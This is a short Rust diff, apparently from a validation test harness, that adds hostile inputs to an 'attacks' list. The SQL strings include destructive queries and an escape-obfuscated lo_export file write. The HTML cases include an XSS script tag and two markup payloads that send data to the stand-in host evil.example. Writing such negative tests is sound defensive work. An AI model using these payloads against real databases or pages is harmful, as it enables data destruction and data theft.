@@ -358,11 +358,17 @@ fn attacks<'p>(
                     "drop table a",
                     "select 1; delete from a",
                     "with a as (delete from b) select 1",
+                    "select pg_drop_replication_slot('a')",
+                    "select U&\"lo\\005fexport\"(1, '/tmp/a')",
                 ] {
                     add(text(query));
                 }
             }
-            RuleKind::Html => add(text("<script>alert(1)</script>")),
+            RuleKind::Html => {
+                add(text("<script>alert(1)</script>"));
+                add(text("<div style='background:url(//evil.example/?d=1)'>"));
+                add(text("<input type=image src=//evil.example/?d=1>"));
+            }
             RuleKind::Once => add(text("a")),
             RuleKind::Bound if argument.is_some_and(|argument| argument.kinds.is_number()) => {
                 add(number("-1"));
